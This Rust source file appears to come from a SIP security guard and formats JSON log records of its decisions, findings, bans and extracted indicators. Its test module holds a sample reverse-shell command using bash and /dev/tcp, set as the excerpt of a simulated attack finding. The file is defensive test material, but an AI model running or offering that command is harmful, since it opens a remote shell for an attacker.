//! Formats the record of one message.

use std::sync::LazyLock;

use super::fingerprint;
use super::indicators::of_texts;
use super::json;
use super::mask::Mask;
use super::replay::Copy;
use super::time::Clock;
use crate::geo::Place;
use crate::sip::{Kind, Message, dialog, names};
use crate::state::region::WRITTEN;

/// Findings written of one message.
pub const MAX_FINDINGS: usize = 8;

/// Bytes of a value of the message that are written.
pub const MAX_VALUE: usize = 256;

/// Bytes of one finding's value that are looked through for indicators.
const MAX_PAYLOAD: usize = 4096;

/// Whose words the record's are (a version of the Elastic Common Schema), and the version of its own form; still open.
/// `docs/decision-log.md` says what differs between the forms.
pub(super) const FORM: &[u8] = b"\"ecs\":{\"version\":\"8.11.0\"},\"sipsieve\":{\"version\":2";

/// Stands for what the log of another program did not print of a message.
pub const UNKNOWN: &str = "unknown.invalid";

/// Families whose findings hold the message's own words, and not a payload.
pub(super) const NO_PAYLOAD: [&str; 8] = [
    "structure",
    "limits",
    "content_length_zero",
    "destinations",
    "accounts",
    "model",
    "feed",
    "network",
];

/// What is the same in all records until policy or rules change.
pub struct Settings<'a> {
    /// The rules' version, twelve hexadecimal digits.
    pub rules: &'a str,
    /// The policy's version.
    pub policy: &'a str,
    /// `enforce` or `observe`.
    pub mode: &'a str,
    /// Bytes of a finding's value that are written.
    pub excerpt_bytes: usize,
    /// Bytes of the message that are written, 0 for none.
    pub raw_bytes: usize,
    /// The message is written so that it can be judged again; `raw_bytes` of it.
    pub replay: bool,
    /// Bytes of a whole record, its line end included; what `raw_bytes` asks for comes on top.
    pub record_bytes: usize,
    pub mask: Option<Mask>,
}

/// How much of what a sender wrote is written: of each value, of a suspicious one, and of how many findings and indicators.
#[derive(Clone, Copy)]
struct Measure {
    value: usize,
    excerpt: usize,
    findings: usize,
    indicators: usize,
}

/// Where a record grows too long, it is written anew by the next of these: escapes make six bytes of one.
const SHORTER: [(usize, usize, usize); 3] = [(96, 4, 4), (32, 2, 2), (8, 1, 0)];

/// One rule that fired on one part.
#[derive(Clone, Copy, Debug)]
pub struct Finding<'a> {
    pub rule: &'a str,
    pub family: &'a str,
    pub score: u32,
    pub field: &'a str,
    pub reason: &'a str,
    /// The value; empty in credentials.
    pub excerpt: &'a [u8],
}

/// The ban that a message led to.
#[derive(Clone, Copy, Debug)]
pub struct Ban<'a> {
    pub source: &'a str,
    pub seconds: u64,
    pub rule: &'a str,
}

/// What was decided on one message, and why.
pub struct Decision<'a> {
    /// Seconds since the epoch.
    pub now: f64,
    /// Seconds of the clock that limits and bans go by, where that is known.
    pub steady: Option<u64>,
    pub ip: &'a str,
    pub port: u16,
    pub place: &'a Place,
    pub transport: &'a str,
    /// `allow`, `scrub`, `reject`, `drop`, or `error`.
    pub action: &'a str,
    /// The start and the process that decided; `number`, in hexadecimal, follows where there is one.
    pub id: &'a str,
    pub number: Option<u64>,
    pub reason: &'a [u8],
    /// The answer that was given, 0 for none. A reply's own stands in the message.
    pub status: u16,
    pub enforced: bool,
    pub counters: &'a [(&'a str, u64)],
    pub ban: Option<Ban<'a>>,
    pub findings: &'a [Finding<'a>],
    pub message: &'a Message<'a>,
}

/// Formats records; holds what is the same in all of them.
pub struct Recorder {
    excerpt_bytes: usize,
    raw_bytes: usize,
    /// The copy that is written, where the message is to be judged again.
    replay: Option<Copy>,
    record_bytes: usize,
    measure: Measure,
    mask: Option<Mask>,
    clock: Clock,
    /// What stands behind the rules' names: `"version":"…"},"policy":{"version":"…","mode":"…"}`
    after_rules: Vec<u8>,
    /// `"version":"…"` of the rules.
    pub(super) rules: Vec<u8>,
    /// `"policy":{"version":"…","mode":"…"`, still open.
    pub(super) policy: Vec<u8>,
    /// See `quoted`.
    quoted: bool,
    /// Texts on their way to a mask.
    plain: String,
    masked: String,
}

impl Recorder {
    pub fn new(settings: Settings) -> Self {
        let mut rules = b"\"version\":".to_vec();
        json::string(&mut rules, settings.rules);
        let mut policy = b"\"policy\":{\"version\":".to_vec();
        json::string(&mut policy, settings.policy);
        policy.extend_from_slice(b",\"mode\":");
        json::string(&mut policy, settings.mode);
        let after_rules = [&rules[..], b"},", &policy[..], b"}"].concat();
        Self {
            excerpt_bytes: settings.excerpt_bytes,
            raw_bytes: settings.raw_bytes,
            replay: settings.replay.then(Copy::default),
            record_bytes: settings.record_bytes,
            measure: Measure {
                value: MAX_VALUE,
                excerpt: settings.excerpt_bytes,
                findings: MAX_FINDINGS,
                indicators: usize::MAX,
            },
            mask: settings.mask,
            clock: Clock::default(),
            after_rules,
            rules,
            policy,
            quoted: false,
            plain: String::new(),
            masked: String::new(),
        }
    }

    /// As `decision`, of a message that was put together from what another program's log quotes of it: nothing is said of
    /// its size, of how its client writes, of a source that is not known, or of values with `UNKNOWN` in them.
    pub fn quoted(&mut self, out: &mut Vec<u8>, decision: &Decision) {
        self.quoted = true;
        self.decision(out, decision);
        self.quoted = false;
    }

    /// Appends one message's record: a line of JSON with its line end.
    ///
    /// Fields that the guard knows by itself stand before any that the sender controls.
    pub fn decision(&mut self, out: &mut Vec<u8>, decision: &Decision) {
        let start = out.len();
        let whole = Measure {
            value: MAX_VALUE,
            excerpt: self.excerpt_bytes,
            findings: MAX_FINDINGS,
            indicators: usize::MAX,
        };
        let shorter = SHORTER.map(|(value, findings, indicators)| Measure {
            value,
            excerpt: value.min(self.excerpt_bytes),
            findings,
            indicators,
        });
        for measure in std::iter::once(whole).chain(shorter) {
            out.truncate(start);
            self.measure = measure;
            let raw = self.fields(out, decision);
            if out.len() - start - raw <= self.record_bytes {
                break;
            }
        }
    }

    /// Writes a record by the measure at hand; returns how many of its bytes are the message as a whole.
    fn fields(&mut self, out: &mut Vec<u8>, decision: &Decision) -> usize {
        let message = decision.message;
        self.start(out, decision.now);
        out.extend_from_slice(b"\"source\":{");
        if !decision.ip.is_empty() {
            out.extend_from_slice(b"\"ip\":");
            json::string(out, decision.ip);
            out.extend_from_slice(b",\"port\":");
            json::number(out, decision.port.into());
            home(out, decision.place);
        }
        out.extend_from_slice(b"},\"network\":{\"transport\":");
        json::string(out, decision.transport);
        out.extend_from_slice(b"},\"event\":{\"kind\":\"event\",\"action\":");
        json::string(out, decision.action);
        out.extend_from_slice(match (decision.action, decision.enforced) {
            ("error", _) => b",\"outcome\":\"failure\",\"id\":\"",
            (_, true) => b",\"outcome\":\"success\",\"id\":\"",
            (_, false) => b",\"outcome\":\"unknown\",\"id\":\"",
        });
        json::text(out, decision.id);
        if let Some(number) = decision.number {
            json::hexadecimal(out, number);
        }
        out.push(b'"');
        if !decision.reason.is_empty() {
            out.extend_from_slice(b",\"reason\":\"");
            json::escaped(out, decision.reason, self.measure.value);
            out.push(b'"');
        }
        out.extend_from_slice(b"},\"rule\":{");
        let findings = decision
            .findings
            .get(..self.measure.findings)
            .unwrap_or(decision.findings);
        for (place, finding) in findings.iter().enumerate() {
            out.extend_from_slice(if place == 0 { b"\"id\":[" } else { b"," });
            json::string(out, finding.rule);
        }
        if !findings.is_empty() {
            out.extend_from_slice(b"],");
        }
        out.extend_from_slice(&self.after_rules);
        for (place, (name, count)) in decision.counters.iter().enumerate() {
            out.extend_from_slice(if place == 0 { b",\"counters\":{" } else { b"," });
            json::string(out, name);
            out.push(b':');
            json::number(out, *count);
        }
        if !decision.counters.is_empty() {
            out.push(b'}');
        }
        if let Some(ban) = &decision.ban {
            out.extend_from_slice(b",\"ban\":{\"source\":");
            json::string(out, ban.source);
            out.extend_from_slice(b",\"seconds\":");
            json::number(out, ban.seconds);
            out.extend_from_slice(b",\"rule\":");
            json::string(out, ban.rule);
            out.push(b'}');
        }
        let raw = self.ours(out, decision);
        self.sip(out, message);
        if let Some(agent) = agent(message) {
            out.extend_from_slice(b",\"user_agent\":{\"original\":\"");
            json::escaped(out, agent, self.measure.value);
            out.extend_from_slice(b"\"}");
        }
        if !findings.is_empty() {
            let shown = worst(decision.findings).map_or(&b""[..], |worst| worst.excerpt);
            self.findings(out, findings, shown);
            self.indicators(out, decision.findings);
        }
        out.extend_from_slice(b"}\n");
        raw
    }

    /// Opens a record with its time.
    pub(super) fn start(&mut self, out: &mut Vec<u8>, now: f64) {
        out.extend_from_slice(b"{\"@timestamp\":\"");
        self.clock.write(out, now);
        out.extend_from_slice(b"\",");
    }

    pub(super) fn time(&mut self, out: &mut Vec<u8>, now: f64) {
        out.push(b'"');
        self.clock.write(out, now);
        out.push(b'"');
    }

    /// What neither ECS nor Packetbeat has a field for, what the guard knows by itself first; returns how many of its bytes
    /// are the message as a whole.
    fn ours(&mut self, out: &mut Vec<u8>, decision: &Decision) -> usize {
        let message = decision.message;
        let raw = message.raw;
        out.push(b',');
        out.extend_from_slice(FORM);
        if let (Some(_), Some(steady)) = (&self.replay, decision.steady) {
            out.extend_from_slice(b",\"steady\":");
            json::number(out, steady);
        }
        // A reply has a status of its own; it is answered by nobody.
        if decision.status > 0 && (message.kind != Kind::Reply || message.status == 0) {
            out.extend_from_slice(b",\"answer\":");
            json::number(out, decision.status.into());
        }
        if message.kind == Kind::Malformed {
            out.extend_from_slice(b",\"malformed\":true");
        }
        if !self.quoted {
            out.extend_from_slice(b",\"bytes\":");
            json::number(out, raw.len() as u64);
        }
        if (message.headers.iter())
            .any(|header| matches!(header.name.id, names::AUTHORIZATION | names::PROXY_AUTHORIZATION))
        {
            out.extend_from_slice(b",\"authorization\":true");
        }
        // What was put together from a log has the header order of whoever put it together.
        if let Some(client) = (!self.quoted).then(|| fingerprint::of(message)).flatten() {
            out.extend_from_slice(b",\"client\":\"");
            out.extend_from_slice(&client);
            out.push(b'"');
        }
        if let Some(finding) = worst(decision.findings) {
            out.extend_from_slice(b",\"field\":");
            self.field(out, finding.field);
            out.extend_from_slice(b",\"excerpt\":\"");
            self.sent(out, finding.excerpt, self.measure.excerpt, Some(finding.field));
            out.push(b'"');
        }
        let before = out.len();
        if self.replay.is_some() {
            self.kept(out, raw, decision.findings);
        } else if self.raw_bytes > 0 {
            out.extend_from_slice(b",\"raw\":\"");
            self.sent(out, raw, self.raw_bytes, Some(""));
            out.push(b'"');
        }
        let whole = out.len() - before;
        out.push(b'}');
        whole
    }

    /// The message in Packetbeat's words.
    fn sip(&mut self, out: &mut Vec<u8>, message: &Message) {
        out.extend_from_slice(match message.kind {
            Kind::Request => b",\"sip\":{\"type\":\"request\",\"method\":\"",
            Kind::Reply => b",\"sip\":{\"type\":\"response\",\"method\":\"",
            Kind::Malformed => b",\"sip\":{\"method\":\"",
        });
        json::escaped(out, message.method, 32);
        out.push(b'"');
        if message.kind == Kind::Reply && message.status > 0 {
            out.extend_from_slice(b",\"code\":");
            json::number(out, message.status.into());
        }
        let quoted = self.quoted;
        static UNKNOWN_VALUE: LazyLock<memchr::memmem::Finder<'static>> =
            LazyLock::new(|| memchr::memmem::Finder::new(UNKNOWN));
        let is_known = |value: &[u8]| !quoted || UNKNOWN_VALUE.find(value).is_none();
        let uri = message.raw.get(message.uri.start..message.uri.end).unwrap_or_default();
        let uri = Some(uri).filter(|_| message.kind == Kind::Request);
        let (mut call_id, mut cseq, mut from, mut to) = (None, None, None, None);
        for header in &message.headers {
            // Where a header field is there twice, it is the first that counts.
            for (name, value) in [
                ("call-id", &mut call_id),
                ("cseq", &mut cseq),
                ("from", &mut from),
                ("to", &mut to),
            ] {
                if value.is_none() && header.name.is(name) {
                    *value = Some(&header.value[..]);
                    break;
                }
            }
        }
        let values = [
            (&b",\"uri\":{\"original\":\""[..], uri, &b"\"}"[..], true),
            (b",\"call_id\":\"", call_id, b"\"", false),
            (
                b",\"from\":{\"uri\":{\"original\":\"",
                from.and_then(address),
                b"\"}}",
                true,
            ),
            (
                b",\"to\":{\"uri\":{\"original\":\"",
                to.and_then(address),
                b"\"}}",
                true,
            ),
        ];
        for (name, value, end, maskable) in values {
            if let Some(value) = value.filter(|value| is_known(value)) {
                out.extend_from_slice(name);
                self.sent(out, value, self.measure.value, maskable.then_some(""));
                out.extend_from_slice(end);
            }
        }
        if let Some(number) = cseq.and_then(sequence) {
            out.extend_from_slice(b",\"cseq\":{\"code\":");
            json::number(out, number);
            out.push(b'}');
        }
        out.push(b'}');
    }

    /// The message without its secrets, and whether it would be judged as it was.
    fn kept(&mut self, out: &mut Vec<u8>, raw: &[u8], findings: &[Finding]) {
        let Some(copy) = self.replay.as_mut() else { return };
        copy.take(raw, self.raw_bytes, &WRITTEN);
        let mut exact = copy.is_exact(raw, findings);
        self.plain.clear();
        json::exact_text(&mut self.plain, &copy.bytes);
        out.extend_from_slice(b",\"raw\":\"");
        match &self.mask {
            None => json::text(out, &self.plain),
            Some(mask) => {
                self.masked.clear();
                mask.text(&mut self.masked, &self.plain);
                exact &= self.masked == self.plain;
                json::text(out, &self.masked);
            }
        }
        out.extend_from_slice(match (raw.len() > self.raw_bytes, exact) {
            (true, _) => b"\",\"kept\":\"cut\"",
            (false, true) => b"\",\"kept\":\"exact\"",
            (false, false) => b"\",\"kept\":\"changed\"",
        });
    }

    /// An excerpt that is `shown` already is not written again.
    fn findings(&mut self, out: &mut Vec<u8>, findings: &[Finding], shown: &[u8]) {
        out.extend_from_slice(b",\"findings\":[");
        for (place, finding) in findings.iter().enumerate() {
            comma(out, place);
            out.extend_from_slice(b"{\"rule\":");
            json::string(out, finding.rule);
            out.extend_from_slice(b",\"family\":");
            json::string(out, finding.family);
            out.extend_from_slice(b",\"score\":");
            json::number(out, finding.score.into());
            out.extend_from_slice(b",\"field\":");
            self.field(out, finding.field);
            out.extend_from_slice(b",\"reason\":\"");
            json::escaped(out, finding.reason.as_bytes(), self.measure.value);
            out.push(b'"');
            if finding.excerpt != shown {
                out.extend_from_slice(b",\"excerpt\":\"");
                self.sent(out, finding.excerpt, self.measure.excerpt, Some(finding.field));
                out.push(b'"');
            }
            out.push(b'}');
        }
        out.push(b']');
    }

    /// What the values point at in which rules found an attack, each looked at once; digest secrets and a message's
    /// own words are not among them. Of the whole values: the host often stands at a payload's end.
    fn indicators(&mut self, out: &mut Vec<u8>, findings: &[Finding]) {
        let hostile = |f: &Finding| f.score > 0 && !f.excerpt.is_empty() && !NO_PAYLOAD.contains(&f.family);
        let mut payloads: Vec<&[u8]> = Vec::new();
        for finding in findings.iter().filter(|finding| hostile(finding)) {
            // A hostile message has a handful; with hundreds, the first few fill all that is looked through.
            if payloads.len() < 64 && !payloads.contains(&finding.excerpt) {
                payloads.push(finding.excerpt);
            }
        }
        let texts: Vec<String> = (payloads.iter())
            .map(|payload| {
                let mut text = String::with_capacity(payload.len().min(MAX_PAYLOAD) + 8);
                json::escaped_text(&mut text, payload, MAX_PAYLOAD);
                text
            })
            .collect();
        let mut named = of_texts(texts.iter().map(String::as_str));
        named.truncate(self.measure.indicators);
        if named.is_empty() {
            return;
        }
        out.extend_from_slice(b",\"indicators\":[");
        for (place, item) in named.iter().enumerate() {
            comma(out, place);
            out.extend_from_slice(b"{\"type\":");
            json::string(out, item.kind);
            out.extend_from_slice(b",\"value\":\"");
            match &self.mask {
                None => json::text(out, &item.value),
                Some(mask) => {
                    self.masked.clear();
                    mask.text(&mut self.masked, &item.value);
                    json::text(out, &self.masked);
                }
            }
            out.extend_from_slice(b"\"}");
        }
        out.push(b']');
    }

    /// A field's name, which may hold a header field's that the sender made up.
    fn field(&self, out: &mut Vec<u8>, name: &str) {
        out.push(b'"');
        json::escaped(out, name.as_bytes(), self.measure.value);
        out.push(b'"');
    }

    /// Appends what a sender wrote, masked where `field` is given and masks are asked for.
    fn sent(&mut self, out: &mut Vec<u8>, value: &[u8], limit: usize, field: Option<&str>) {
        match (&self.mask, field) {
            (Some(mask), Some(field)) => {
                self.plain.clear();
                self.masked.clear();
                json::escaped_text(&mut self.plain, value, limit);
                mask.value(&mut self.masked, field, &self.plain);
                json::text(out, &self.masked);
            }
            _ => json::escaped(out, value, limit),
        }
    }
}

/// The weightiest finding, and of equal ones the first; one of a rule before one of the framing.
fn worst<'f, 'a>(findings: &'f [Finding<'a>]) -> Option<&'f Finding<'a>> {
    let weight = |finding: &Finding| (finding.score, finding.family != "structure");
    findings
        .iter()
        .reduce(|worst, next| if weight(next) > weight(worst) { next } else { worst })
}

/// Of a request the User-Agent before any Server, which a request does not have (RFC 3261 20.35); of a reply, which
/// may have both, the first.
fn agent<'m>(message: &'m Message) -> Option<&'m [u8]> {
    let mut server = None;
    for header in &message.headers {
        if header.name.is("user-agent") {
            return Some(&header.value);
        }
        if server.is_none() && header.name.is("server") {
            server = Some(&header.value[..]);
            if message.kind != Kind::Request {
                break;
            }
        }
    }
    server
}

/// The number of a CSeq (RFC 3261 20.16), at most ten digits.
fn sequence(value: &[u8]) -> Option<u64> {
    let digits = value.iter().take(10).take_while(|byte| byte.is_ascii_digit());
    digits.fold(None, |number, digit| {
        Some(number.unwrap_or(0) * 10 + u64::from(digit - b'0'))
    })
}

/// The URI of a From or To, if it has one.
fn address(value: &[u8]) -> Option<&[u8]> {
    Some(dialog::address_uri(value)).filter(|uri| !uri.is_empty())
}

fn comma(out: &mut Vec<u8>, place: usize) {
    if place > 0 {
        out.push(b',');
    }
}

/// Country and operator of a source, as far as they are known, as members of `source`.
fn home(out: &mut Vec<u8>, place: &Place) {
    if place.country.is_some() {
        out.extend_from_slice(b",\"geo\":{\"country_iso_code\":");
        json::string(out, place.country());
        out.push(b'}');
    }
    if place.asn > 0 {
        out.extend_from_slice(b",\"as\":{\"number\":");
        json::number(out, place.asn.into());
        if !place.organization().is_empty() {
            out.extend_from_slice(b",\"organization\":{\"name\":");
            json::string(out, place.organization());
            out.push(b'}');
        }
        out.push(b'}');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::sip::{Header, HeaderName, Span};

    static NOWHERE: Place = Place {
        country: None,
        asn: 0,
        organization: None,
    };

    fn header<'a>(name: &'static str, value: &'a str) -> Header<'a> {
        let (name, raw_name) = (HeaderName::read(name.as_bytes()), name.as_bytes());
        Header {
            name,
            raw_name,
            value: value.as_bytes().into(),
            start: 0,
            value_start: 0,
            end: 0,
            folded: false,
        }
    }

    fn message(raw: &[u8]) -> Message<'_> {
        Message {
            raw,
            kind: Kind::Request,
            method: b"INVITE",
            status: 0,
            uri: Span { start: 7, end: 23 },
            phrase: Span::default(),
            headers: vec![
                header("via", "SIP/2.0/UDP 192.0.2.7:5060;branch=z9hG4bK776asdhds"),
                header("max-forwards", "70"),
                header("from", "\"Alice <sip:x@y>\" <sip:alice@example.com>;tag=1928301774"),
                header("to", "<sip:bob@example.com;user=phone>"),
                header("call-id", "a84b4c76e66710@192.0.2.7"),
                header("cseq", "314159 INVITE"),
                header("contact", "<sip:alice@192.0.2.7>"),
                header("user-agent", "Example/1.0"),
            ],
            body_start: raw.len(),
            defects: Vec::new(),
        }
    }

    fn recorder() -> Recorder {
        Recorder::new(Settings {
            rules: "0123456789ab",
            policy: "ba9876543210",
            mode: "enforce",
            excerpt_bytes: 256,
            raw_bytes: 0,
            replay: false,
            record_bytes: 2048,
            mask: None,
        })
    }

    fn decision<'a>(message: &'a Message<'a>, findings: &'a [Finding<'a>]) -> Decision<'a> {
        Decision {
            now: 1_764_299_045.25,
            steady: None,
            ip: "192.0.2.7",
            port: 5060,
            place: &NOWHERE,
            transport: "udp",
            action: "allow",
            id: "6928f3a1-2f-",
            number: Some(28),
            reason: b"",
            status: 0,
            enforced: true,
            counters: &[("invite", 1)],
            ban: None,
            findings,
            message,
        }
    }

    const ATTACK: Finding = Finding {
        rule: "shell-reverse",
        family: "shell",
        score: 10,
        field: "from.display_name",
        reason: "A command that connects back",
        excerpt: b"bash -i >& /dev/tcp/192.0.2.195:3456 0>&1",
    };

    #[test]
    fn what_the_guard_knows_stands_before_what_the_sender_wrote() {
        let raw = [b"INVITE sip:b@example.nl SIP/2.0\r\n".as_slice(), &[b'x'; 667]].concat();
        let message = message(&raw);
        let mut out = Vec::new();
        recorder().decision(&mut out, &decision(&message, &[]));
        assert_eq!(
            String::from_utf8(out).unwrap(),
            concat!(
                r#"{"@timestamp":"2025-11-28T03:04:05.250000Z","source":{"ip":"192.0.2.7","port":5060},"#,
                r#""network":{"transport":"udp"},"event":{"kind":"event","action":"allow","outcome":"success","#,
                r#""id":"6928f3a1-2f-1c"},"rule":{"version":"0123456789ab"},"policy":{"version":"ba9876543210","#,
                r#""mode":"enforce"},"counters":{"invite":1},"ecs":{"version":"8.11.0"},"#,
                r#""sipsieve":{"version":2,"bytes":700,"client":"1i07_f3fca6a5f0_e0a59f1131"},"#,
                r#""sip":{"type":"request","method":"INVITE","uri":{"original":"sip:b@example.nl"},"#,
                r#""call_id":"a84b4c76e66710@192.0.2.7","from":{"uri":{"original":"sip:alice@example.com"}},"#,
                r#""to":{"uri":{"original":"sip:bob@example.com;user=phone"}},"cseq":{"code":314159}},"#,
                r#""user_agent":{"original":"Example/1.0"}}"#,
                "\n"
            )
        );
    }

    /// Run with `cargo test --release timing -- --ignored --nocapture`.
    #[test]
    #[ignore = "prints figures"]
    fn timing() {
        let raw = [b'x'; 700];
        let message = message(&raw);
        for findings in [&[][..], &[ATTACK]] {
            let mut recorder = recorder();
            let mut out = Vec::with_capacity(4096);
            let mut decision = decision(&message, findings);
            let start = std::time::Instant::now();
            for _ in 0..200_000 {
                decision.now += 1e-5;
                out.clear();
                recorder.decision(&mut out, std::hint::black_box(&decision));
                std::hint::black_box(&out);
            }
            println!(
                "{} findings: {} ns",
                findings.len(),
                start.elapsed().as_nanos() / 200_000
            );
        }
    }
}
